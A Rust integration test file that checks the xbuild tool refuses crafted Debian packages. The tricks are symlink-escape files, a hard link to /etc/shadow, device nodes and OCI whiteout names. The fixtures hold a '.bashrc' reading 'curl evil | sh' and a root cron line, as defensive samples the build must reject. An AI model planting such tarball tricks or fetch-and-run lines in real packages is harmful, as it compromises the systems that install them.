//! Crafted packages get nothing into an image (issue 16, item 4, `build`):
//! a package whose data tarball holds an entry no Debian package needs — a
//! file, directory or hard link under a symlink the package made earlier
//! (absolute, relative, climbing past the root), a character or block
//! device, a name an OCI runtime applies as a whiteout (`.wh.name`,
//! `.wh..wh..opq`, `.wh.`, `.wh..`, `.wh...`) — fails the build with exit 4
//! and a message naming the package (name, version, architecture), the
//! entry's path and what is wrong, and no layer of it is cached. A control
//! package with every legal kind of entry builds. One trick per package,
//! each built by root and by `nobody` (uid 65534, through setpriv: hence
//! root), from a signed fixture archive served on 127.0.0.1.

mod support;

use std::fs;
use std::io::Read as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use support::archive::{ARCH, ArchiveBuilder, DebSpec};
use support::crafted::DataTar;
use support::faulted::{assert_no_half_written_entries, build_command, exit_code, project_for};
use support::files::all_files;
use support::oci::Layout;
use support::server::Server;
use support::xbuild::{RunOutput, Xbuild, repository_url, temp_dir};
use tar::EntryType;

const VERSION: &str = "1.0-1";
const NOBODY: u32 = 65534;

/// Who runs `xbuild build`.
#[derive(Clone, Copy, Debug)]
enum Caller {
    Root,
    Nobody,
}

/// One build of a project including only one package, by one caller, into
/// a fresh cache and output directory under `home`.
struct Built {
    run: RunOutput,
    home: tempfile::TempDir,
    _archive: support::archive::Archive,
}

impl Built {
    fn cache(&self) -> PathBuf {
        self.home.path().join("cache")
    }

    fn out(&self) -> PathBuf {
        self.home.path().join("out")
    }
}

/// Builds a project including only `package`, whose data tarball is
/// `data`, by `caller`.
fn build(package: &str, data: DataTar, caller: Caller) -> Built {
    let spec = DebSpec::new(package, VERSION, ARCH).with_data_tar(data);
    let archive = ArchiveBuilder::empty().package(spec).build();
    let server = Server::serve(archive.root());
    let project = project_for(&archive, &repository_url(&server), &[package]);
    let home = temp_dir("xbuild-crafted-");
    let cache = home.path().join("cache");
    let out = home.path().join("out");
    let xbuild = Xbuild::new().with_cache_dir(&cache);
    let mut inner = build_command(&xbuild, project.path(), &out);
    let run = match caller {
        Caller::Root => RunOutput::of(&mut inner),
        Caller::Nobody => {
            fs::create_dir_all(&out).unwrap();
            for path in [home.path(), project.path(), xbuild.apt_etc()] {
                chown_nobody(path);
            }
            RunOutput::of(&mut as_nobody(&inner, home.path()))
        }
    };
    drop(project);
    Built {
        run,
        home,
        _archive: archive,
    }
}

fn chown_nobody(path: &Path) {
    let status = Command::new("chown")
        .arg("-R")
        .arg(format!("{NOBODY}:{NOBODY}"))
        .arg(path)
        .status()
        .unwrap();
    assert!(status.success(), "chown {}", path.display());
}

/// `inner` run as uid and gid 65534 with no supplementary groups.
fn as_nobody(inner: &Command, home: &Path) -> Command {
    let mut command = Command::new("setpriv");
    command
        .args(["--reuid", &NOBODY.to_string()])
        .args(["--regid", &NOBODY.to_string()])
        .args(["--clear-groups", "--"])
        .arg(inner.get_program())
        .args(inner.get_args());
    for (name, value) in inner.get_envs() {
        match value {
            Some(value) => command.env(name, value),
            None => command.env_remove(name),
        };
    }
    command.env("HOME", home);
    command
}

/// The blobs of `cache` that are layers holding `package`'s status record.
fn cached_layers_of(cache: &Path, package: &str) -> Vec<PathBuf> {
    let record = format!("var/lib/dpkg/status.d/{package}");
    all_files(&cache.join("blobs-v1/sha256"))
        .into_iter()
        .filter(|blob| {
            let bytes = fs::read(blob).unwrap();
            if !bytes.starts_with(&[0x1f, 0x8b]) {
                return false;
            }
            let mut tar_bytes = Vec::new();
            if flate2::read::GzDecoder::new(&bytes[..])
                .read_to_end(&mut tar_bytes)
                .is_err()
            {
                return false;
            }
            let mut archive = tar::Archive::new(&tar_bytes[..]);
            let Ok(entries) = archive.entries() else {
                return false;
            };
            entries.flatten().any(|entry| {
                String::from_utf8_lossy(&entry.path_bytes()).trim_start_matches("./") == record
            })
        })
        .collect()
}

/// Builds `package` (holding `data`) as root and as nobody: each build
/// exits 4 naming the package, `path` and `problem`, with the hint, and
/// leaves no layer of the package and nothing half written in its cache.
fn assert_refused(package: &str, data: fn() -> DataTar, path: &str, problem: &str) {
    for caller in [Caller::Root, Caller::Nobody] {
        let built = build(package, data(), caller);
        let run = &built.run;
        assert_eq!(exit_code(run), 4, "{caller:?}: {run}");
        let message = format!("package {package} {VERSION} ({ARCH}): `{path}` {problem}");
        assert!(
            run.stderr.contains(&message),
            "{caller:?}: no `{message}` in\n{run}"
        );
        assert!(
            run.stderr
                .contains("hint: a Debian package never needs such an entry"),
            "{caller:?}: no hint in\n{run}"
        );
        let layers = cached_layers_of(&built.cache(), package);
        assert!(layers.is_empty(), "{caller:?}: layers cached: {layers:?}");
        assert_no_half_written_entries(&built.cache());
        assert!(
            !built.out().join("oci/index.json").exists(),
            "{caller:?}: an image was written"
        );
    }
}

#[test]
fn root_crafted_file_under_an_absolute_symlink_is_refused() {
    assert_refused(
        "symlink-absolute",
        || {
            DataTar::new()
                .directory("./etc/")
                .symlink("./etc/evil", "/")
                .file("./etc/evil/root/.bashrc", b"curl evil | sh\n")
        },
        "./etc/evil/root/.bashrc",
        "lies under `etc/evil`, a symlink the package made earlier",
    );
}

#[test]
fn root_crafted_file_under_a_relative_symlink_is_refused() {
    assert_refused(
        "symlink-relative",
        || {
            DataTar::new()
                .directory("./etc/")
                .symlink("./etc/evil", "../root")
                .file("./etc/evil/.bashrc", b"curl evil | sh\n")
        },
        "./etc/evil/.bashrc",
        "lies under `etc/evil`, a symlink the package made earlier",
    );
}

#[test]
fn root_crafted_file_under_a_symlink_climbing_past_the_root_is_refused() {
    assert_refused(
        "symlink-dotdot",
        || {
            DataTar::new()
                .directory("./usr/")
                .directory("./usr/lib/")
                .symlink("./usr/lib/evil", "../../../../../../usr/../")
                .directory("./usr/lib/evil/etc/")
                .file("./usr/lib/evil/etc/cron.d/evil", b"* * * * * root sh\n")
        },
        "./usr/lib/evil/etc/",
        "lies under `usr/lib/evil`, a symlink the package made earlier",
    );
}

#[test]
fn root_crafted_directory_over_a_symlink_is_refused() {
    assert_refused(
        "symlink-directory",
        || {
            DataTar::new()
                .directory("./etc/")
                .symlink("./etc/evil", "/")
                .directory("./etc/evil/")
        },
        "./etc/evil/",
        "is a directory where the package made a symlink earlier",
    );
}

#[test]
fn root_crafted_hard_link_through_a_symlink_is_refused() {
    assert_refused(
        "hard-link-symlink",
        || {
            DataTar::new()
                .directory("./etc/")
                .symlink("./etc/evil", "/")
                .hard_link("./etc/shadow-copy", "./etc/evil/etc/shadow")
        },
        "./etc/shadow-copy",
        "is a hard link to `etc/evil/etc/shadow`, which lies under `etc/evil`, a symlink the package made earlier",
    );
}

#[test]
fn root_crafted_character_device_is_refused() {
    assert_refused(
        "char-device",
        || {
            DataTar::new()
                .directory("./dev/")
                .device("./dev/evil", EntryType::Char)
        },
        "./dev/evil",
        "is a character device node",
    );
}

#[test]
fn root_crafted_block_device_is_refused() {
    assert_refused(
        "block-device",
        || {
            DataTar::new()
                .directory("./dev/")
                .device("./dev/sda", EntryType::Block)
        },
        "./dev/sda",
        "is a block device node",
    );
}

/// A file named `name` under `./etc/` (or at the root for `..`-like names).
fn whiteout(path: &'static str) -> DataTar {
    DataTar::new().directory("./etc/").file(path, b"")
}

#[test]
fn root_crafted_whiteout_of_a_file_is_refused() {
    assert_refused(
        "whiteout-file",
        || whiteout("./etc/.wh.keepme"),
        "./etc/.wh.keepme",
        "has the component `.wh.keepme`",
    );
}

#[test]
fn root_crafted_opaque_whiteout_is_refused() {
    assert_refused(
        "whiteout-opaque",
        || whiteout("./etc/.wh..wh..opq"),
        "./etc/.wh..wh..opq",
        "has the component `.wh..wh..opq`",
    );
}

#[test]
fn root_crafted_whiteout_of_the_parent_is_refused() {
    assert_refused(
        "whiteout-dotdotdot",
        || whiteout("./.wh..."),
        "./.wh...",
        "has the component `.wh...`",
    );
}

#[test]
fn root_crafted_whiteout_of_the_directory_itself_is_refused() {
    assert_refused(
        "whiteout-dotdot",
        || whiteout("./etc/.wh.."),
        "./etc/.wh..",
        "has the component `.wh..`",
    );
}

#[test]
fn root_crafted_whiteout_of_nothing_is_refused() {
    assert_refused(
        "whiteout-empty",
        || whiteout("./etc/.wh."),
        "./etc/.wh.",
        "has the component `.wh.`",
    );
}

/// Every legal kind of entry, the tricky-looking but harmless ones
/// included, is written: a control for the refusals above.
#[test]
fn root_crafted_control_package_with_every_legal_entry_builds() {
    fn data() -> DataTar {
        DataTar::new()
            .directory("./")
            .directory("./bin/")
            .file("./bin/tool", b"#!/bin/sh\necho tool\n")
            .symlink("./bin/tool-link", "tool")
            .directory("./etc/")
            .file("./etc/control.conf", b"x = 1\n")
            .symlink("./etc/root-link", "/")
            .symlink("./etc/up", "../usr/share/control")
            .file("./etc/beside-up/file", b"not under the link\n")
            .hard_link("./etc/control.conf.bak", "./etc/control.conf")
            .directory("./run/")
            .fifo("./run/control.fifo")
            .directory("./usr/")
            .directory("./usr/share/")
            .directory("./usr/share/control/")
            .file("./usr/share/control/x.wh.y", b"a dot-wh in the middle\n")
            .file("./usr/share/control/wh.z", b"no leading dot\n")
    }
    for caller in [Caller::Root, Caller::Nobody] {
        let built = build("control", data(), caller);
        built.run.success();
        let layout = Layout::open(&built.out());
        let (_, manifest) = layout.manifest_for(ARCH);
        let entries: Vec<_> = manifest["layers"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|layer| layout.layer_entries(layer))
            .collect();
        let find = |path: &str| {
            entries
                .iter()
                .find(|entry| entry.path == path)
                .unwrap_or_else(|| panic!("{caller:?}: no {path} in the image"))
        };
        assert_eq!(find("usr/bin/tool").contents, b"#!/bin/sh\necho tool\n");
        assert_eq!(
            find("usr/bin/tool-link").link_target.as_deref(),
            Some("tool")
        );
        assert_eq!(
            find("etc/up").link_target.as_deref(),
            Some("../usr/share/control")
        );
        assert_eq!(find("run/control.fifo").kind, EntryType::Fifo);
        assert_eq!(find("etc/control.conf.bak").kind, EntryType::Link);
        find("etc/beside-up/file");
        find("usr/share/control/x.wh.y");
        find("usr/share/control/wh.z");
        find("var/lib/dpkg/status.d/control");
    }
}

/// Keeps the crafted archive's helpers honest: the trick really is in the
/// `.deb` the server hands out, as dpkg-deb itself lists it.
#[test]
fn root_crafted_data_tarball_is_what_dpkg_deb_sees() {
    let spec = DebSpec::new("listed", VERSION, ARCH).with_data_tar(
        DataTar::new()
            .symlink("./etc/evil", "/")
            .file("./etc/evil/root/.bashrc", b"x")
            .device("./dev/sda", EntryType::Block),
    );
    let archive = ArchiveBuilder::empty().package(spec).build();
    let deb = archive.deb_path(archive.deb("listed"));
    let listing = support::run_ok(Command::new("dpkg-deb").arg("--contents").arg(&deb));
    for expected in ["./etc/evil -> /", "./etc/evil/root/.bashrc", "./dev/sda"] {
        assert!(listing.contains(expected), "{expected}:\n{listing}");
    }
    let fields = support::run_ok(Command::new("dpkg-deb").arg("--field").arg(&deb));
    assert!(fields.contains("Package: listed\n"), "{fields}");
}
